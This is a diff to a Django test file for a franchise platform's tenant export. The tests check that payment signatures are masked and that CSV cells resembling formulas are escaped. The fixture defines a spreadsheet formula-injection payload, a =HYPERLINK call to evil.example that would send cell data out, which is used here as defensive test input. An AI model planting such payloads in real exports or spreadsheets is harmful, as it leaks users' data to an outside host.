@@ -3,10 +3,12 @@ slug typed out; then the schema and the public rows (bindings, domains) are gone
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
 from datetime import timedelta
+from decimal import Decimal
 
 import pytest
 from django.db import connection
@@ -16,9 +18,11 @@ from django_tenants.utils import schema_exists, tenant_context
 
 from franchise_platform.accounts.models import ApiToken, User
 from franchise_platform.crm_sync.models import CrmConnection
+from franchise_platform.network.models import ProviderAccount
+from franchise_platform.payments.models import CallbackEvent, Invoice
 from franchise_platform.security.models import AuditEntry, DataKey
 from tenants.models import CrmAccountBinding, Domain, Network
-from tests.factories import shop
+from tests.factories import DealFactory, shop
 from tests.personas import make_persona_network
 
 pytestmark = pytest.mark.django_db
@@ -182,3 +186,67 @@ def test_delete_drops_the_schema_and_the_public_rows(console, operator, doomed):
     from django.test import Client
 
     assert Client(HTTP_HOST="doomed.localhost").get("/panel/").status_code == 404
+
+
+ROBOKASSA_SIGNATURE = "C60BAC72B1AA1F5C6E5B2FDE2C4952EA"
+PAY_SIGNATURE = "e0832e6ffe0cb830b9d205b7cfffbe54"
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Квест")'
+
+
+@pytest.fixture
+def doomed_with_payments(doomed):
+    """The doomed network with a deal titled by an attacker, an invoice whose payment URL is signed
+    and a stored notification with its signature."""
+    net, _ = doomed
+    with tenant_context(net.network):
+        account = ProviderAccount.objects.get(merchant_login="doomed-shop")
+        deal = DealFactory(title=HOSTILE_TITLE, partner=account.partner)
+        invoice = Invoice.objects.create(
+            deal=deal,
+            provider_account=account,
+            provider="robokassa",
+            amount=Decimal("1500.00"),
+            payment_kind="prepayment",
+            payment_url=(
+                "https://auth.robokassa.ru/Merchant/Index.aspx?MerchantLogin=doomed-shop"
+                f"&OutSum=1500.00&InvId=1&SignatureValue={PAY_SIGNATURE}&Culture=ru"
+            ),
+            expires_at=timezone.now() + timedelta(days=1),
+        )
+        CallbackEvent.objects.create(
+            provider="robokassa",
+            partner=account.partner,
+            provider_account=account,
+            invoice_number=invoice.pk,
+            params={
+                "OutSum": "1500.000000",
+                "InvId": str(invoice.pk),
+                "signaturevalue": ROBOKASSA_SIGNATURE,
+            },
+            accepted=False,
+            reason_code="bad_signature",
+            status="refused",
+        )
+    return net
+
+
+def test_export_masks_provider_signatures(console, doomed_with_payments):
+    archive = _export(console)
+
+    everything = b"".join(archive.read(name) for name in archive.namelist())
+    assert ROBOKASSA_SIGNATURE.encode() not in everything
+    assert PAY_SIGNATURE.encode() not in everything
+    event = json.loads(archive.read("payments.callbackevent.json"))[0]
+    assert event["params"]["OutSum"] == "1500.000000"  # the rest is kept as received
+    assert event["params"]["signaturevalue"] == "••••••"
+    invoice = json.loads(archive.read("payments.invoice.json"))[0]
+    assert "SignatureValue=••••••&Culture=ru" in invoice["payment_url"]
+
+
+def test_export_csv_keeps_formula_like_cells_as_text(console, doomed_with_payments):
+    archive = _export(console)
+
+    rows = list(csv.DictReader(io.StringIO(archive.read("payments.deal.csv").decode())))
+    assert [row["title"] for row in rows] == ["'" + HOSTILE_TITLE]
+    # The JSON file is data, not a sheet: the title stays exactly as the lead has it.
+    assert json.loads(archive.read("payments.deal.json"))[0]["title"] == HOSTILE_TITLE
